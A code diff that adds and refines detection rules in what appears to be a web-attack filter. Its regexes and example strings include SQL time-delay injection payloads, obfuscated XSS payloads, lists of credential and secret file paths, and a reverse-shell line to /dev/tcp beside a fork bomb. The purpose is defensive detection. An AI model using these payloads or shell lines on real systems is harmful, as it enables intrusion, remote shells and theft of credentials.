@@ -167,6 +167,36 @@ RULES: tuple[Rule, ...] = (
         counterexamples=("log into outlook", "load the data file"),
     ),
     Rule(
+        id="sqli.time_delay",
+        code=SQLI,
+        # Blind injection stalls the database to read one bit per request; a method call
+        # (`time.sleep(5)`, `Thread.sleep(100)`) is program code, not SQL.
+        pattern=(
+            r"(?i)(?:^|[^\w.$>:-])(?:sleep|pg_sleep|benchmark)\s*\(\s*(?:[-+(]*\s*\d|$|\)\s*$"
+            r"|[@'\"]|(?:select|now|rand|md5|sha1)\b)|(?i)\bwaitfor\s+(?:delay|time)\s*['\"]?\s*\d"
+            r"|(?i)\bdbms_(?:pipe\.receive_message|lock\.sleep|session\.sleep)\b"
+            r"|(?i)\brandomblob\s*\(\s*\d{6,}|(?i)\bpg_sleep_for\s*\("
+        ),
+        severity=_S,
+        score=0.75,
+        message="SQL time delay (blind injection)",
+        examples=(
+            "sleep(5)#",
+            "SLEEP   (",
+            "1 or pg_sleep(10)--",
+            "benchmark(5000000,md5(1))",
+            "; waitfor delay '0:0:5'--",
+            "dbms_pipe.receive_message(('a'),10)",
+        ),
+        counterexamples=(
+            "time.sleep(5)",
+            "Thread.sleep(100)",
+            "$this->sleep(2)",
+            "sleep mode (5 min)",
+            "I need sleep (lots of it)",
+        ),
+    ),
+    Rule(
         id="sqli.comment",
         code=SQLI,
         pattern=r"(?i)/\*!?\d*|\*/|['\"`)\d]\s*(?:--|#|;\s*--|;\s*#|%00)|--\s*$|\bor\b\s*--",
@@ -223,11 +253,15 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="xss.script_tag",
         code=XSS,
-        pattern=r"(?i)<\s*/?\s*(?:[a-z]+:)?script\b|<\s*/\s*script\s*>",
+        # `\xbc` / `¼` is `<` with the high bit set, read as `<` by a US-ASCII page.
+        pattern=(
+            r"(?i)<\s*/?\s*(?:[a-z]+:\s*)?script\b|<\s*/\s*script\s*>"
+            r"|(?i)(?:\x{bc}|\\x(?:[c-d][0-9a-f]\\x)?bc)\s*/?\s*script\b"
+        ),
         severity=_S,
         score=0.9,
         message="script element",
-        examples=("<script>alert(1)</script>", "<x:script src=//a>"),
+        examples=("<script>alert(1)</script>", "<x:script src=//a>", "\\xbcscript\\xbealert(1)"),
         counterexamples=("the script of the movie", "a javascript tutorial"),
     ),
     Rule(
@@ -240,13 +274,23 @@ RULES: tuple[Rule, ...] = (
             r"|pageshow|popstate|wheel|drag\w*|drop|copy|cut|paste|show|search|select|invalid"
             r"|reset|play\w*|pause|ended|auxclick|contextmenu|dblclick|readystatechange"
             r"|afterprint|beforeprint|loadstart|loadend|progress|abort|seeked|seeking|waiting)"
-            r"\s*="
+            r"\s*=|(?i)(?:^|[\"'`<])\s*(?:on[a-z]{4,60}|formaction|srcdoc)\s*="
         ),
         severity=_S,
         score=0.8,
         message="HTML event handler attribute",
-        examples=('<img src=x onerror="alert(1)">', '" onmouseover="alert(1)', "<body onload=x()>"),
-        counterexamples=("turn the lights on=off", "the error is on line 3"),
+        examples=(
+            '<img src=x onerror="alert(1)">',
+            '" onmouseover="alert(1)',
+            "<body onload=x()>",
+            '"onzoom=',
+            "'formaction=",
+        ),
+        counterexamples=(
+            "turn the lights on=off",
+            "the error is on line 3",
+            '{"onboarding": true}',
+        ),
     ),
     Rule(
         id="xss.javascript_url",
@@ -328,7 +372,7 @@ RULES: tuple[Rule, ...] = (
         code=XSS,
         pattern=(
             r"(?i)(?:^|[^/\w.-])(?:document|window|self|top|parent|globalthis|frames)\s*(?:/\*[^*]*\*/\s*)*"
-            r"(?:\[\s*(?:/\*[^*]*\*/\s*)*['\"`]|\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|write"
+            r"\)?\s*(?:\[\s*(?:/\*[^*]*\*/\s*)*['\"`]|\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|write"
             r"|location|body|queryselector|createelement))|(?i)\{\{[^}]*(?:constructor|\$eval|\$on)"
             r"|(?i)\burl\s*\(\s*['\"]?\s*(?:java|vb)script|(?i)\bnew\s+function\s*\("
         ),
@@ -340,8 +384,31 @@ RULES: tuple[Rule, ...] = (
             "document /*x*/ . cookie",
             "{{constructor.constructor('alert(1)')()}}",
             "x:url(javascript",
+            '(document)["cookie"]',
         ),
         counterexamples=("the document is ready", "/manual/document.cookie", "{{ name }}"),
+    ),
+    Rule(
+        id="xss.obfuscated_script",
+        code=XSS,
+        # Script written without the words filters look for: UTF-7 `<` and `>` (`+ADw-`), JSFuck
+        # (`![]`, `[][...]`), and calls made through tagged templates instead of parentheses.
+        pattern=(
+            r"(?i)\+AD[w4]-|(?:[!+]\s*\[\s*\][\s+!()\[\]]*){2}[!+]?\s*\["
+            r"|(?i)\.\s*(?:call|apply|bind)\s*`|(?i)\$\{\s*(?:alert|prompt|confirm|eval|document"
+            r"|window|top|self|parent|import)\b|(?i)\b(?:alert|prompt|confirm)\s*`"
+        ),
+        severity=_S,
+        score=0.8,
+        message="script obfuscated past word filters (UTF-7, JSFuck, tagged templates)",
+        examples=(
+            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+            "(![]+[])[+!+[]]",
+            "[  ] . sort . call ` ${ alert } 1337 `",
+            "Reflect.sort.call``",
+            "alert`1`",
+        ),
+        counterexamples=("C++ and C# developers", "arr[] = [1, 2]", "`${name}` is set"),
     ),
     Rule(
         id="xss.xml_external",
@@ -407,6 +474,32 @@ RULES: tuple[Rule, ...] = (
         counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
     ),
     Rule(
+        id="traversal.secret_file",
+        code=TRAVERSAL,
+        # Files that hold credentials or a process's secrets; an argument naming one is the goal
+        # of a traversal whether or not it climbs to get there.
+        pattern=(
+            r"(?i)/etc/(?:passwd|shadow|gshadow|sudoers|master\.passwd|security/passwd)\b"
+            r"|(?i)/proc/(?:self|\d+)/(?:environ|cmdline|maps|mem|fd/)|(?i)\b(?:boot|win|system)\.ini\b"
+            r"|(?i)system32[\\/]+config[\\/]+(?:sam|system|security)\b|(?i)/\.aws/credentials\b"
+            r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
+            r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/\.(?:bash|zsh|mysql)_history\b"
+            r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])"
+        ),
+        severity=_S,
+        score=0.75,
+        message="credential or secret-holding system file",
+        examples=(
+            "/etc/passwd",
+            "/etc/shadow\x00",
+            "/proc/self/environ",
+            "C:\\boot.ini",
+            "~/.ssh/id_rsa",
+            "/var/www/.env",
+        ),
+        counterexamples=("how do I reset my passwd", "~/.ssh/id_rsa.pub", "/srv/app/.envrc"),
+    ),
+    Rule(
         id="traversal.scheme",
         code=TRAVERSAL,
         pattern=r"(?i)\bfile:/|\b(?:php|zip|phar|expect|glob|jar|netdoc|gopher|dict)://",
@@ -441,6 +534,7 @@ RULES: tuple[Rule, ...] = (
             r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
             r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
             r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
+            r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
         ),
         severity=_S,
         score=0.7,
@@ -451,8 +545,9 @@ RULES: tuple[Rule, ...] = (
             "bash -i >& /dev/tcp/1.2.3.4/8080",
             ":(){ :|:& };:",
             "() { :; }; echo x",
+            "diff <(cat a) b",
         ),
-        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }"),
+        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
     ),
     Rule(
         id="cmdi.windows_batch",
